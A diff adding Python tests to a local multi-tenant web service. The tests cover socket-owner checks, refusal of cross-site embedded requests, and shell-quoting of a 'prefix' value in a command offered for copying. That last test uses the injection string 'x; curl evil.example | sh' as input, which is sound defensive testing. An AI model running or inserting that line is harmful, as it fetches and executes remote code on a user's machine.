@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import socket
 from collections.abc import Iterator
 from urllib.parse import quote, urlsplit
 
@@ -137,6 +138,32 @@ class TestOtherUsersOfThisMachine:
 
     def test_a_socket_that_is_not_there_has_no_owner(self) -> None:
         assert owner_of_socket(("127.0.0.1", 1), ("127.0.0.1", 2)) is None
+
+    def test_a_connection_from_another_address_does_not_pass_for_the_operators_with_the_same_port(self) -> None:
+        with socket.create_server(("127.0.0.1", 0)) as server:
+            here = server.getsockname()
+            with socket.create_connection(here) as operators:
+                peer = operators.getsockname()
+                with socket.create_connection(here, source_address=("127.0.0.2", peer[1])) as strangers:
+                    assert owner_of_socket(peer, here) == os.getuid()
+                    assert owner_of_socket(strangers.getsockname(), here) is None
+
+
+class TestPagesOfOtherSites:
+    """Other ports of this machine are the same site for the browser, so their requests have the cookie."""
+
+    @pytest.mark.parametrize("site", ["same-site", "cross-site"])
+    @pytest.mark.parametrize("what", ["image", "empty", "script", "iframe"])
+    def test_what_another_site_embeds_is_refused(self, ada: Caller, site: str, what: str) -> None:
+        answer = ada.ask("GET", RETRY, {"Sec-Fetch-Site": site, "Sec-Fetch-Dest": what})
+        assert (answer.status, "duff" in answer.body) == (403, False)
+
+    def test_a_link_of_another_site_may_be_followed(self, ada: Caller) -> None:
+        assert ada.ask("GET", "/tenants", {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "document"}).status == 200
+
+    def test_the_command_to_copy_runs_nothing_that_an_address_has_brought(self, ada: Caller) -> None:
+        body = ada.get(f"/tenants?prefix={quote('x; curl evil.example | sh')}").body
+        assert "berth tenants --prefix &#39;x; curl evil.example | sh&#39;" in body
 
 
 class TestForms:
